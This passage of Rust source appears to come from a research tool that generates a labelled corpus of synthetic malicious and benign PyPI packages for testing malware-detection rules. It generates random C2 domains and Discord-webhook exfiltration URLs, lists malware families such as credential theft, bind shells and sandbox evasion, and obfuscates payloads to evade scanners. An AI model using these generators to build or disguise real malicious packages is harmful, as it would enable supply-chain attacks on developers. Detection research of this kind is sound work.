        let code = (ob.render)(&mut rng);
        let b64 = code
            .split('\'')
            .nth(1)
            .expect("encoded payload between quotes");
        let decoded = digest::base64::decode(b64).expect("valid base64");
        let text = String::from_utf8(decoded).expect("utf8");
        assert!(text.contains("os.system"));
    }

    #[test]
    fn behavior_index_lookup() {
        assert!(behavior_index("C2 Communication").is_some());
        assert!(behavior_index("Nonexistent").is_none());
    }

    #[test]
    fn deterministic_rendering() {
        let idx = behavior_index("Credential Theft").expect("present");
        let mut a = StdRng::seed_from_u64(5);
        let mut b = StdRng::seed_from_u64(5);
        assert_eq!(
            (BEHAVIORS[idx].render)(&mut a),
            (BEHAVIORS[idx].render)(&mut b)
        );
    }
}

//! Random identifier, host and payload generation for variant synthesis.

use rand::rngs::StdRng;
use rand::Rng;

const SYLLABLES: &[&str] = &[
    "zor", "bex", "lum", "tak", "vin", "mod", "pax", "ren", "sul", "dro", "kit", "nav", "wex",
    "gol", "fir", "hab", "jup", "qua", "yel", "ost",
];

const TLDS: &[&str] = &["xyz", "top", "site", "online", "space", "icu", "click"];

const WORDS: &[&str] = &[
    "color", "utils", "helper", "tools", "net", "data", "sys", "cloud", "fast", "easy", "auto",
    "py", "lib", "core", "text", "json", "http", "crypto", "async", "micro",
];

/// Generates a random lowercase identifier of 2–3 syllables.
pub fn ident(rng: &mut StdRng) -> String {
    let n = rng.gen_range(2..=3);
    (0..n)
        .map(|_| SYLLABLES[rng.gen_range(0..SYLLABLES.len())])
        .collect()
}

/// Generates a plausible package name from two word stems.
pub fn package_name(rng: &mut StdRng) -> String {
    let a = WORDS[rng.gen_range(0..WORDS.len())];
    let b = WORDS[rng.gen_range(0..WORDS.len())];
    if rng.gen_bool(0.5) {
        format!("{a}{b}")
    } else {
        format!("{a}-{b}")
    }
}

/// Generates a random C2 domain like `zorbex.xyz`.
pub fn c2_domain(rng: &mut StdRng) -> String {
    format!(
        "{}{}.{}",
        SYLLABLES[rng.gen_range(0..SYLLABLES.len())],
        SYLLABLES[rng.gen_range(0..SYLLABLES.len())],
        TLDS[rng.gen_range(0..TLDS.len())]
    )
}

/// Generates a random public-looking IPv4 address.
pub fn c2_ip(rng: &mut StdRng) -> String {
    format!(
        "{}.{}.{}.{}",
        rng.gen_range(11..223),
        rng.gen_range(0..255),
        rng.gen_range(0..255),
        rng.gen_range(1..254)
    )
}

/// Generates a webhook-style exfiltration URL.
pub fn webhook_url(rng: &mut StdRng) -> String {
    let id: String = (0..18)
        .map(|_| {
            let c = rng.gen_range(0..36);
            char::from_digit(c, 36).expect("base36 digit")
        })
        .collect();
    format!(
        "https://discord.com/api/webhooks/{}/{}",
        rng.gen_range(100000000u64..999999999),
        id
    )
}

/// Picks one of the listed options.
pub fn pick<'a>(rng: &mut StdRng, options: &[&'a str]) -> &'a str {
    options[rng.gen_range(0..options.len())]
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    #[test]
    fn deterministic_given_seed() {
        let mut a = StdRng::seed_from_u64(1);
        let mut b = StdRng::seed_from_u64(1);
        assert_eq!(ident(&mut a), ident(&mut b));
        assert_eq!(c2_domain(&mut a), c2_domain(&mut b));
    }

    #[test]
    fn ident_is_lowercase_alpha() {
        let mut rng = StdRng::seed_from_u64(2);
        for _ in 0..20 {
            let id = ident(&mut rng);
            assert!(id.chars().all(|c| c.is_ascii_lowercase()), "{id}");
            assert!(id.len() >= 4);
        }
    }

    #[test]
    fn c2_ip_is_dotted_quad() {
        let mut rng = StdRng::seed_from_u64(3);
        let ip = c2_ip(&mut rng);
        assert_eq!(ip.split('.').count(), 4);
        for octet in ip.split('.') {
            let v: u32 = octet.parse().expect("number");
            assert!(v < 256);
        }
    }

    #[test]
    fn webhook_has_discord_shape() {
        let mut rng = StdRng::seed_from_u64(4);
        let url = webhook_url(&mut rng);
        assert!(url.starts_with("https://discord.com/api/webhooks/"));
    }

    #[test]
    fn package_names_vary() {
        let mut rng = StdRng::seed_from_u64(5);
        let names: std::collections::HashSet<String> =
            (0..30).map(|_| package_name(&mut rng)).collect();
        assert!(names.len() > 10);
    }
}

//! Legitimate package synthesis and shared benign filler code.

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

use oss_registry::{
    render_setup_py, Ecosystem, Package, PackageMetadata, SourceFile, POPULAR_PACKAGES,
};

use crate::naming;

/// Generates benign function definitions totalling roughly `lines` lines.
///
/// Shared by the malware generator (padding to Table VI sizes) and the
/// legitimate generator (bulk). Functions are parameterized by the rng so
/// no two packages carry identical filler.
pub fn filler_functions(rng: &mut StdRng, lines: usize) -> String {
    let mut out = String::new();
    let mut produced = 0usize;
    while produced < lines {
        let snippet = match rng.gen_range(0..8) {
            0 => t_slugify(rng),
            1 => t_chunks(rng),
            2 => t_retry(rng),
            3 => t_stats(rng),
            4 => t_cache(rng),
            5 => t_parse_kv(rng),
            6 => t_tree(rng),
            _ => t_format_table(rng),
        };
        produced += snippet.lines().count() + 1;
        out.push_str(&snippet);
        out.push('\n');
    }
    out
}

fn t_slugify(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    let sep = naming::pick(rng, &["-", "_", "."]);
    format!(
        "def {f}_slug(text):\n    \"\"\"Lowercase and join words with '{sep}'.\"\"\"\n    words = []\n    for word in text.split():\n        cleaned = ''.join(c for c in word.lower() if c.isalnum())\n        if cleaned:\n            words.append(cleaned)\n    return '{sep}'.join(words)\n"
    )
}

fn t_chunks(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    let n = rng.gen_range(2..16);
    format!(
        "def {f}_chunks(items, size={n}):\n    \"\"\"Yield fixed-size chunks from a list.\"\"\"\n    for start in range(0, len(items), size):\n        yield items[start:start + size]\n"
    )
}

fn t_retry(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    let tries = rng.gen_range(2..6);
    format!(
        "def {f}_retry(fn, attempts={tries}, delay=0.1):\n    \"\"\"Call fn with retries on exception.\"\"\"\n    import time\n    last = None\n    for attempt in range(attempts):\n        try:\n            return fn()\n        except Exception as exc:\n            last = exc\n            time.sleep(delay * (attempt + 1))\n    raise last\n"
    )
}

fn t_stats(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    format!(
        "def {f}_mean(values):\n    \"\"\"Arithmetic mean, 0.0 for empty input.\"\"\"\n    if not values:\n        return 0.0\n    return sum(values) / len(values)\n\n\ndef {f}_variance(values):\n    \"\"\"Population variance.\"\"\"\n    m = {f}_mean(values)\n    return {f}_mean([(v - m) ** 2 for v in values])\n"
    )
}

fn t_cache(rng: &mut StdRng) -> String {
    let c = naming::ident(rng);
    let cap = rng.gen_range(16..256);
    format!(
        "class {c}Cache:\n    \"\"\"Tiny LRU-ish dict cache (capacity {cap}).\"\"\"\n\n    def __init__(self):\n        self._data = {{}}\n        self._order = []\n\n    def get(self, key, default=None):\n        return self._data.get(key, default)\n\n    def put(self, key, value):\n        if key not in self._data and len(self._order) >= {cap}:\n            oldest = self._order.pop(0)\n            self._data.pop(oldest, None)\n        if key not in self._data:\n            self._order.append(key)\n        self._data[key] = value\n"
    )
}

fn t_parse_kv(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    let sep = naming::pick(rng, &["=", ":"]);
    format!(
        "def {f}_parse(text):\n    \"\"\"Parse 'key{sep}value' lines into a dict.\"\"\"\n    result = {{}}\n    for line in text.splitlines():\n        line = line.strip()\n        if not line or line.startswith('#'):\n            continue\n        if '{sep}' in line:\n            key, _, value = line.partition('{sep}')\n            result[key.strip()] = value.strip()\n    return result\n"
    )
}

fn t_tree(rng: &mut StdRng) -> String {
    let c = naming::ident(rng);
    format!(
        "class {c}Node:\n    \"\"\"Binary search tree node.\"\"\"\n\n    def __init__(self, key):\n        self.key = key\n        self.left = None\n        self.right = None\n\n    def insert(self, key):\n        if key < self.key:\n            if self.left is None:\n                self.left = {c}Node(key)\n            else:\n                self.left.insert(key)\n        else:\n            if self.right is None:\n                self.right = {c}Node(key)\n            else:\n                self.right.insert(key)\n\n    def walk(self):\n        if self.left:\n            yield from self.left.walk()\n        yield self.key\n        if self.right:\n            yield from self.right.walk()\n"
    )
}

fn t_format_table(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    let pad = rng.gen_range(1..4);
    format!(
        "def {f}_table(rows):\n    \"\"\"Render rows of strings as an aligned text table.\"\"\"\n    if not rows:\n        return ''\n    widths = [max(len(str(r[i])) for r in rows) for i in range(len(rows[0]))]\n    lines = []\n    for row in rows:\n        cells = [str(cell).ljust(widths[i] + {pad}) for i, cell in enumerate(row)]\n        lines.append(''.join(cells).rstrip())\n    return '\\n'.join(lines)\n"
    )
}

/// Benign-but-suspicious-looking module: legitimate uses of the same APIs
/// malware abuses. These files punish over-general rules (precision
/// pressure in Table VIII).
fn benign_suspicious_module(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    let mut out = String::from(
        "\"\"\"Developer tooling helpers.\"\"\"\nimport base64\nimport os\nimport subprocess\n\n",
    );
    out.push_str(&format!(
        "def {f}_git_describe(repo):\n    \"\"\"Return `git describe` output for a checkout.\"\"\"\n    return subprocess.run(\n        ['git', 'describe', '--tags'], cwd=repo, capture_output=True, text=True,\n    ).stdout.strip()\n\n"
    ));
    out.push_str(&format!(
        "def {f}_data_uri(path):\n    \"\"\"Encode a file as a data: URI for inline embedding.\"\"\"\n    with open(path, 'rb') as fh:\n        payload = base64.b64encode(fh.read()).decode('ascii')\n    return 'data:application/octet-stream;base64,' + payload\n\n"
    ));
    out.push_str(&format!(
        "def {f}_proxy_url():\n    \"\"\"Read the proxy configuration from the environment.\"\"\"\n    return os.environ.get('HTTPS_PROXY') or os.environ.get('https_proxy')\n\n"
    ));
    if rng.gen_bool(0.5) {
        out.push_str(&format!(
            "def {f}_fetch_release(session, repo):\n    \"\"\"Fetch the latest release tag from the GitHub API.\"\"\"\n    import requests\n    resp = requests.get('https://api.github.com/repos/' + repo + '/releases/latest', timeout=10)\n    resp.raise_for_status()\n    return resp.json()['tag_name']\n\n"
        ));
    }
    out
}

/// Generates one legitimate package, deterministic in `(index, seed)`.
///
/// Sizes follow Table VI (~3,052 LoC average); roughly one package in six
/// contains a benign-suspicious module.
pub fn generate_legit_package(index: usize, seed: u64) -> Package {
    let mut rng = StdRng::seed_from_u64(seed ^ (index as u64).wrapping_mul(0xA24BAED4963EE407));
    let name = if index < POPULAR_PACKAGES.len() {
        POPULAR_PACKAGES[index].to_owned()
    } else {
        format!("{}{}", naming::package_name(&mut rng), index)
    };
    let metadata = PackageMetadata {
        name: name.clone(),
        version: format!(
            "{}.{}.{}",
            rng.gen_range(1..8),
            rng.gen_range(0..30),
            rng.gen_range(0..15)
        ),
        summary: format!("{name}: well-maintained utilities"),
        description: format!(
            "{name} provides tested, documented helpers used across many projects. \
             See https://{name}.readthedocs.io for the full guide."
        ),
        home_page: format!("https://github.com/{name}/{name}"),
        author: format!("{} maintainers", name),
        author_email: format!("maintainers@{name}.dev"),
        license: naming::pick(&mut rng, &["MIT", "Apache-2.0", "BSD-3-Clause"]).to_owned(),
        dependencies: vec!["setuptools".into()],
    };
    let module_dir = name.replace('-', "_");
    let mut files = vec![SourceFile::new("setup.py", render_setup_py(&metadata, ""))];
    // Bulk modules: target ~3,052 LoC average with 0.5x–1.6x spread.
    let target = (3052.0 * rng.gen_range(0.5..1.6)) as usize;
    let n_modules = rng.gen_range(4..9);
    let per_module = target / n_modules;
    for m in 0..n_modules {
        let mut body = format!("\"\"\"{name}.mod{m} — generated utility module.\"\"\"\n\n");
        body.push_str(&filler_functions(&mut rng, per_module));
        files.push(SourceFile::new(format!("{module_dir}/mod{m}.py"), body));
    }
    if rng.gen_bool(1.0 / 6.0) {
        files.push(SourceFile::new(
            format!("{module_dir}/devtools.py"),
            benign_suspicious_module(&mut rng),
        ));
    }
    // A small test module, as real sdists carry.
    files.push(SourceFile::new(
        "tests/test_basic.py",
        format!(
            "import {module_dir}\n\n\ndef test_import():\n    assert {module_dir} is not None\n"
        ),
    ));
    files.push(SourceFile::new(
        format!("{module_dir}/__init__.py"),
        format!(
            "\"\"\"{name} public API.\"\"\"\n__version__ = '{}'\n",
            metadata.version
        ),
    ));
    Package::new(metadata, files, Ecosystem::PyPi)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic() {
        let a = generate_legit_package(3, 42);
        let b = generate_legit_package(3, 42);
        assert_eq!(a.signature(), b.signature());
    }

    #[test]
    fn distinct_indices_distinct_packages() {
        let a = generate_legit_package(0, 42);
        let b = generate_legit_package(1, 42);
        assert_ne!(a.signature(), b.signature());
        assert_ne!(a.metadata().name, b.metadata().name);
    }

    #[test]
    fn loc_matches_table_vi_scale() {
        let mut total = 0;
        for i in 0..8 {
            total += generate_legit_package(i, 42).loc();
        }
        let avg = total / 8;
        assert!(avg > 1200 && avg < 6000, "avg legit LoC {avg}");
    }

    #[test]
    fn metadata_is_complete() {
        let p = generate_legit_package(2, 42);
        let m = p.metadata();
        assert!(!m.description.is_empty());
        assert!(!m.author_email.is_empty());
        assert!(!m.home_page.is_empty());
        assert!(m.version != "0.0.0");
    }

    #[test]
    fn first_packages_use_popular_names() {
        let p = generate_legit_package(0, 42);
        assert_eq!(p.metadata().name, POPULAR_PACKAGES[0]);
    }

    #[test]
    fn filler_parses() {
        let mut rng = StdRng::seed_from_u64(1);
        let code = filler_functions(&mut rng, 200);
        assert!(code.lines().count() >= 200);
        let module = pysrc::parse_module(&code);
        assert!(module.body.len() > 5);
    }

    #[test]
    fn some_packages_have_benign_suspicious_modules() {
        let mut found = false;
        for i in 0..30 {
            let p = generate_legit_package(i, 42);
            if p.files().iter().any(|f| f.path.ends_with("devtools.py")) {
                found = true;
                let dev = p
                    .files()
                    .iter()
                    .find(|f| f.path.ends_with("devtools.py"))
                    .expect("file");
                assert!(dev.contents.contains("base64.b64encode"));
                break;
            }
        }
        assert!(found, "no benign-suspicious module in 30 packages");
    }
}

//! Adversarial corpus growth: mutated variants of every package.
//!
//! A mutant models a re-upload: the attacker keeps the payload behavior
//! (and therefore the ground-truth label, family and behavior tags) but
//! rewrites the bytes through an [`obfuscate::EvasionProfile`]. The
//! robustness experiment scans these to measure detection decay, and
//! scanhub's property tests use them as cache/prefilter adversaries.

use obfuscate::{EvasionProfile, Obfuscator};

use crate::dataset::{Dataset, LabeledLegit, LabeledMalware};

/// Mutates every *unique* malicious package through `profile`.
///
/// Ground truth carries over untouched: the mutant keeps its source's
/// `family_id`, `variant` and behavior `tags` — obfuscation changes
/// bytes, never behavior. Deterministic in `(dataset, profile, seed)`.
pub fn mutated_malware(
    dataset: &Dataset,
    profile: &EvasionProfile,
    seed: u64,
) -> Vec<LabeledMalware> {
    let engine = Obfuscator::new(profile.clone(), seed);
    dataset
        .unique_malware()
        .into_iter()
        .map(|m| LabeledMalware {
            package: engine.obfuscate_package(&m.package),
            family_id: m.family_id,
            variant: m.variant,
            tags: m.tags.clone(),
        })
        .collect()
}

/// Mutates every legitimate package through `profile` — the false-positive
/// side of robustness: churned *benign* code must not start matching.
pub fn mutated_legit(dataset: &Dataset, profile: &EvasionProfile, seed: u64) -> Vec<LabeledLegit> {
    let engine = Obfuscator::new(profile.clone(), seed);
    dataset
        .legit
        .iter()
        .map(|l| LabeledLegit {
            package: engine.obfuscate_package(&l.package),
        })
        .collect()
}

/// A whole-corpus mutation: unique malware and all legit packages run
/// through `profile`, labels preserved. The returned dataset plugs into
/// the same `eval` target-building path as the original.
pub fn mutate_dataset(dataset: &Dataset, profile: &EvasionProfile, seed: u64) -> Dataset {
    Dataset {
        malware: mutated_malware(dataset, profile, seed),
        legit: mutated_legit(dataset, profile, seed),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::dataset::CorpusConfig;

    #[test]
    fn mutants_preserve_ground_truth_and_change_bytes() {
        let d = Dataset::generate(&CorpusConfig::tiny());
        let m = mutated_malware(&d, &EvasionProfile::aggressive(), 42);
        let unique = d.unique_malware();
        assert_eq!(m.len(), unique.len());
        for (mutant, original) in m.iter().zip(&unique) {
            assert_eq!(mutant.family_id, original.family_id);
            assert_eq!(mutant.tags, original.tags);
            assert_ne!(
                mutant.package.signature(),
                original.package.signature(),
                "aggressive mutation must change the content signature"
            );
        }
    }

    #[test]
    fn mutation_is_deterministic() {
        let d = Dataset::generate(&CorpusConfig::tiny());
        let a = mutate_dataset(&d, &EvasionProfile::medium(), 7);
        let b = mutate_dataset(&d, &EvasionProfile::medium(), 7);
        let sig = |d: &Dataset| -> Vec<String> {
            d.malware.iter().map(|m| m.package.signature()).collect()
        };
        assert_eq!(sig(&a), sig(&b));
    }

    #[test]
    fn mutated_dataset_keeps_shape() {
        let d = Dataset::generate(&CorpusConfig::tiny());
        let m = mutate_dataset(&d, &EvasionProfile::light(), 42);
        assert_eq!(m.malware.len(), d.unique_malware().len());
        assert_eq!(m.legit.len(), d.legit.len());
    }
}

//! Dataset assembly: Table VI shape with duplicates and ground truth.

use std::collections::HashSet;

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

use oss_registry::Package;

use crate::behaviors::BehaviorTag;
use crate::families::{total_weight, FAMILIES};
use crate::legit::generate_legit_package;
use crate::malware::generate_malware_package;

/// Corpus generation parameters.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CorpusConfig {
    /// Master seed; everything downstream derives from it.
    pub seed: u64,
    /// Unique malicious packages (paper: 1,633).
    pub malware_unique: usize,
    /// Total malicious packages including byte-identical duplicates
    /// (paper: 3,200).
    pub malware_total: usize,
    /// Legitimate packages (paper: 500).
    pub legit_total: usize,
}

impl CorpusConfig {
    /// The full Table VI configuration.
    pub fn paper() -> Self {
        CorpusConfig {
            seed: 42,
            malware_unique: 1633,
            malware_total: 3200,
            legit_total: 500,
        }
    }

    /// A scaled-down corpus for integration tests and quick experiments
    /// (same family structure, ~10x smaller).
    pub fn small() -> Self {
        CorpusConfig {
            seed: 42,
            malware_unique: 160,
            malware_total: 300,
            legit_total: 50,
        }
    }

    /// A minimal corpus for unit tests.
    pub fn tiny() -> Self {
        CorpusConfig {
            seed: 42,
            malware_unique: 30,
            malware_total: 48,
            legit_total: 8,
        }
    }
}

/// A malicious package with its ground truth.
#[derive(Debug, Clone)]
pub struct LabeledMalware {
    /// The package.
    pub package: Package,
    /// Family index into [`FAMILIES`].
    pub family_id: usize,
    /// Variant number within the family.
    pub variant: u64,
    /// Behavior tags realized in the code.
    pub tags: Vec<BehaviorTag>,
}

/// A legitimate package (kept in a wrapper for symmetry/extension).
#[derive(Debug, Clone)]
pub struct LabeledLegit {
    /// The package.
    pub package: Package,
}

/// Table VI summary statistics.
#[derive(Debug, Clone, PartialEq)]
pub struct DatasetStats {
    /// Total malware packages (with duplicates).
    pub malware_total: usize,
    /// Unique malware packages after signature dedup.
    pub malware_unique: usize,
    /// Mean LoC over unique malware.
    pub malware_avg_loc: f64,
    /// Legitimate package count.
    pub legit_total: usize,
    /// Mean LoC over legitimate packages.
    pub legit_avg_loc: f64,
}

/// The generated corpus.
#[derive(Debug, Clone)]
pub struct Dataset {
    /// All malware packages, duplicates included (paper's 3,200).
    pub malware: Vec<LabeledMalware>,
    /// Legitimate packages (paper's 500).
    pub legit: Vec<LabeledLegit>,
}

impl Dataset {
    /// Generates the corpus for `config`. Deterministic in the seed.
    pub fn generate(config: &CorpusConfig) -> Dataset {
        let mut rng = StdRng::seed_from_u64(config.seed);
        // Apportion unique packages across families by weight, at least
        // one each.
        let tw = total_weight() as f64;
        let mut uniques: Vec<LabeledMalware> = Vec::with_capacity(config.malware_unique);
        let mut counts: Vec<usize> = FAMILIES
            .iter()
            .map(|f| (((f.weight as f64) / tw) * config.malware_unique as f64).round() as usize)
            .map(|c| c.max(1))
            .collect();
        // Remove rounding drift while keeping at least one package per
        // family: shrink the largest counts, grow the heaviest.
        while counts.iter().sum::<usize>() > config.malware_unique.max(FAMILIES.len()) {
            let largest = counts
                .iter()
                .enumerate()
                .filter(|(_, c)| **c > 1)
                .max_by_key(|(_, c)| **c)
                .map(|(i, _)| i)
                .expect("some count above 1");
            counts[largest] -= 1;
        }
        while counts.iter().sum::<usize>() < config.malware_unique {
            let heaviest = FAMILIES
                .iter()
                .enumerate()
                .max_by_key(|(_, f)| f.weight)
                .map(|(i, _)| i)
                .expect("families nonempty");
            counts[heaviest] += 1;
        }

        for (family, count) in FAMILIES.iter().zip(&counts) {
            for variant in 0..*count {
                let (package, tags) = generate_malware_package(family, variant as u64, config.seed);
                uniques.push(LabeledMalware {
                    package,
                    family_id: family.id,
                    variant: variant as u64,
                    tags,
                });
            }
        }

        // Duplicates: byte-identical copies of random uniques, as GuardDog
        // republishes the same payload under new uploads.
        let mut malware = uniques.clone();
        while malware.len() < config.malware_total {
            let src = &uniques[rng.gen_range(0..uniques.len())];
            malware.push(src.clone());
        }
        // Deterministic shuffle so duplicates aren't clustered at the end.
        for i in (1..malware.len()).rev() {
            let j = rng.gen_range(0..=i);
            malware.swap(i, j);
        }

        let legit = (0..config.legit_total)
            .map(|i| LabeledLegit {
                package: generate_legit_package(i, config.seed),
            })
            .collect();

        Dataset { malware, legit }
    }

    /// Deduplicates malware by content signature (keeps first occurrence)
    /// — the paper's 3,200 → 1,633 step.
    pub fn unique_malware(&self) -> Vec<&LabeledMalware> {
        let mut seen = HashSet::new();
        let mut out = Vec::new();
        for m in &self.malware {
            if seen.insert(m.package.signature()) {
                out.push(m);
            }
        }
        out
    }

    /// Computes Table VI statistics.
    pub fn stats(&self) -> DatasetStats {
        let unique = self.unique_malware();
        let malware_avg_loc = if unique.is_empty() {
            0.0
        } else {
            unique.iter().map(|m| m.package.loc()).sum::<usize>() as f64 / unique.len() as f64
        };
        let legit_avg_loc = if self.legit.is_empty() {
            0.0
        } else {
            self.legit.iter().map(|l| l.package.loc()).sum::<usize>() as f64
                / self.legit.len() as f64
        };
        DatasetStats {
            malware_total: self.malware.len(),
            malware_unique: unique.len(),
            malware_avg_loc,
            legit_total: self.legit.len(),
            legit_avg_loc,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tiny_dataset_shape() {
        let d = Dataset::generate(&CorpusConfig::tiny());
        assert_eq!(d.malware.len(), 48);
        assert_eq!(d.legit.len(), 8);
        let unique = d.unique_malware();
        assert_eq!(unique.len(), 30);
    }

    #[test]
    fn deterministic() {
        let a = Dataset::generate(&CorpusConfig::tiny());
        let b = Dataset::generate(&CorpusConfig::tiny());
        let sig = |d: &Dataset| -> Vec<String> {
            d.malware.iter().map(|m| m.package.signature()).collect()
        };
        assert_eq!(sig(&a), sig(&b));
    }

    #[test]
    fn duplicates_are_byte_identical() {
        let d = Dataset::generate(&CorpusConfig::tiny());
        let mut by_sig: std::collections::HashMap<String, Vec<usize>> = Default::default();
        for (i, m) in d.malware.iter().enumerate() {
            by_sig.entry(m.package.signature()).or_default().push(i);
        }
        let dup_group = by_sig
            .values()
            .find(|v| v.len() > 1)
            .expect("duplicates exist");
        let first = &d.malware[dup_group[0]];
        let second = &d.malware[dup_group[1]];
        assert_eq!(
            first.package.combined_source(),
            second.package.combined_source()
        );
        assert_eq!(first.family_id, second.family_id);
    }

    #[test]
    fn every_family_represented() {
        let d = Dataset::generate(&CorpusConfig::tiny());
        let fams: HashSet<usize> = d.malware.iter().map(|m| m.family_id).collect();
        assert_eq!(fams.len(), FAMILIES.len());
    }

    #[test]
    fn stats_match_structure() {
        let d = Dataset::generate(&CorpusConfig::tiny());
        let s = d.stats();
        assert_eq!(s.malware_total, 48);
        assert_eq!(s.malware_unique, 30);
        assert_eq!(s.legit_total, 8);
        assert!(s.malware_avg_loc > 100.0);
        assert!(
            s.legit_avg_loc > s.malware_avg_loc,
            "legit packages must be larger on average (Table VI)"
        );
    }

    #[test]
    fn tags_populated() {
        let d = Dataset::generate(&CorpusConfig::tiny());
        assert!(d.malware.iter().all(|m| !m.tags.is_empty()));
    }

    #[test]
    fn paper_config_constants() {
        let c = CorpusConfig::paper();
        assert_eq!(c.malware_total, 3200);
        assert_eq!(c.malware_unique, 1633);
        assert_eq!(c.legit_total, 500);
        assert_eq!(c.seed, 42);
    }
}

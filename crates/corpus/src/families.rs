//! Malware family definitions.
//!
//! A family fixes a set of behaviors (taxonomy subcategories) and a
//! metadata style; variants within the family re-render the same
//! behaviors with different identifiers, hosts and payloads. Clustering
//! similar snippets back into these families is what §III-B's grouping
//! step is supposed to achieve, and detecting held-out variants from
//! rules generated on two seeds per group is the §V-B variant experiment.

/// How the family's packages present their metadata — realizes the
/// "Metadata Related" taxonomy categories (Table II audits / Table XII
/// category 0).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum MetadataStyle {
    /// Name squats on a popular package; description copied.
    Typosquat,
    /// Description left empty (Table II "Empty information").
    EmptyDescription,
    /// Version `0.0.0` (Table II "Release zero").
    ZeroVersion,
    /// Declares obscure/malicious dependencies (Table II "Dependencies").
    FakeDependencies,
    /// No metadata red flag; only the code is malicious.
    Plain,
}

/// A malware family.
#[derive(Debug, Clone, Copy)]
pub struct Family {
    /// Stable family id (index into [`FAMILIES`]).
    pub id: usize,
    /// Name stem used in generated package names.
    pub stem: &'static str,
    /// Behavior subcategories combined by this family.
    pub behaviors: &'static [&'static str],
    /// Metadata presentation.
    pub metadata_style: MetadataStyle,
    /// Relative share of unique packages assigned to the family.
    pub weight: u32,
}

macro_rules! family {
    ($id:expr, $stem:expr, $style:ident, $weight:expr, [$($b:expr),+ $(,)?]) => {
        Family {
            id: $id,
            stem: $stem,
            behaviors: &[$($b),+],
            metadata_style: MetadataStyle::$style,
            weight: $weight,
        }
    };
}

/// The thirty malware families of the synthetic corpus.
pub static FAMILIES: &[Family] = &[
    family!(
        0,
        "wsp",
        Typosquat,
        5,
        [
            "Known Trojan Families",
            "Credential Theft",
            "Messaging Platform Abuse"
        ]
    ),
    family!(
        1,
        "beaconrat",
        ZeroVersion,
        6,
        [
            "C2 Communication",
            "Persistence Mechanisms",
            "Sandbox Evasion"
        ]
    ),
    family!(
        2,
        "envgrab",
        EmptyDescription,
        6,
        ["Environment Data Stealing", "Malicious Setup Scripts"]
    ),
    family!(
        3,
        "piphijack",
        FakeDependencies,
        4,
        ["Configuration Tampering", "Malicious Downloads"]
    ),
    family!(
        4,
        "ransomkit",
        Plain,
        2,
        [
            "Crypto Library Exploitation",
            "System Configuration Changes"
        ]
    ),
    family!(
        5,
        "bindshell",
        ZeroVersion,
        3,
        ["Backdoor Families", "Process Creation"]
    ),
    family!(
        6,
        "b64drop",
        Typosquat,
        8,
        ["Code Obfuscation", "Shell Command Execution"]
    ),
    family!(
        7,
        "dnspipe",
        Plain,
        3,
        ["DNS/Protocol Abuse", "Sensitive Data Harvesting"]
    ),
    family!(
        8,
        "credharv",
        EmptyDescription,
        5,
        ["Credential Theft", "Configuration File Extraction"]
    ),
    family!(
        9,
        "screenspy",
        Plain,
        3,
        ["UI/Graphics Library Abuse", "Data Exfiltration Channels"]
    ),
    family!(
        10,
        "privesc",
        ZeroVersion,
        4,
        ["Privilege Escalation", "Process Manipulation"]
    ),
    family!(
        11,
        "injworm",
        Plain,
        3,
        ["Script Injection", "Malicious Downloads"]
    ),
    family!(
        12,
        "cloudthief",
        FakeDependencies,
        3,
        ["Cloud Service Misuse", "Environment Data Stealing"]
    ),
    family!(
        13,
        "gitleak",
        Plain,
        3,
        ["Development Tool Abuse", "Data Exfiltration Channels"]
    ),
    family!(
        14,
        "shload",
        Plain,
        3,
        ["System Library Abuse", "Anti-Analysis Techniques"]
    ),
    family!(
        15,
        "sockrat",
        ZeroVersion,
        4,
        ["Network Library Misuse", "Backdoor Families"]
    ),
    family!(
        16,
        "eggbomb",
        EmptyDescription,
        3,
        ["Build Process Manipulation", "Shell Command Execution"]
    ),
    family!(
        17,
        "hookdrop",
        Typosquat,
        5,
        ["Installation Hook Abuse", "Malicious Downloads"]
    ),
    family!(
        18,
        "miner",
        Plain,
        5,
        [
            "Process Creation",
            "Persistence Mechanisms",
            "String/Pattern Hiding"
        ]
    ),
    family!(
        19,
        "tweetbot",
        Plain,
        1,
        ["Social Media API Exploitation", "C2 Communication"]
    ),
    family!(
        20,
        "sbxdodge",
        ZeroVersion,
        4,
        [
            "Sandbox Evasion",
            "Code Obfuscation",
            "Shell Command Execution"
        ]
    ),
    family!(
        21,
        "fprint",
        EmptyDescription,
        5,
        ["Sensitive Data Harvesting", "Anti-Analysis Techniques"]
    ),
    family!(
        22,
        "hostpoison",
        Plain,
        3,
        ["System Configuration Changes", "DNS/Protocol Abuse"]
    ),
    family!(
        23,
        "dscgrab",
        Typosquat,
        4,
        ["Messaging Platform Abuse", "Data Exfiltration Channels"]
    ),
    family!(
        24,
        "chrobf",
        Plain,
        4,
        ["String/Pattern Hiding", "Code Obfuscation"]
    ),
    family!(
        25,
        "setuprun",
        ZeroVersion,
        7,
        ["Malicious Setup Scripts", "Shell Command Execution"]
    ),
    family!(
        26,
        "confsteal",
        EmptyDescription,
        3,
        [
            "Configuration File Extraction",
            "Data Exfiltration Channels"
        ]
    ),
    family!(27, "beaconlite", Plain, 5, ["C2 Communication"]),
    family!(28, "puredrop", Typosquat, 5, ["Malicious Downloads"]),
    family!(29, "execb64", EmptyDescription, 6, ["Code Obfuscation"]),
];

/// Total of all family weights (used to apportion unique packages).
pub fn total_weight() -> u32 {
    FAMILIES.iter().map(|f| f.weight).sum()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::behaviors::behavior_index;

    #[test]
    fn ids_match_positions() {
        for (i, f) in FAMILIES.iter().enumerate() {
            assert_eq!(f.id, i);
        }
    }

    #[test]
    fn every_family_behavior_exists_in_catalog() {
        for f in FAMILIES {
            for b in f.behaviors {
                assert!(
                    behavior_index(b).is_some(),
                    "family {} uses unknown behavior {b}",
